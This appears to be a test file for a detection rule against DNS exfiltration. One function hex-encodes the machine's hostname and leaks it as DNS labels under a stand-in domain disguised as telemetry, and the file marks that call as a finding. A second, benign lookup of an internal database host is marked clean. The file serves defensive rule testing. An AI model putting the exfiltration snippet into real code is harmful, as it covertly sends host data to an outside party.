# The name built first and looked up after, its labels hex chunks of the host's name taken in a loop.
import binascii, socket
_Z = "d.telemetry-cdn.example.com"
def q(tag, value):
    h = binascii.hexlify(value.encode()).decode()
    chunks = [h[i:i + 60] for i in range(0, len(h), 60)]
    for n, c in enumerate(chunks):
        name = "%s.%s.%d.%s" % (c, tag, n, _Z)
        # ruleid: shell_dns_exfiltration
        socket.getaddrinfo(name, 80)
q("h", socket.gethostname())
_SVC = "db.cluster.local"
def probe(region):
    host = "%s.%s" % (region, _SVC)
    # ok: shell_dns_exfiltration
    socket.getaddrinfo(host, 5432)
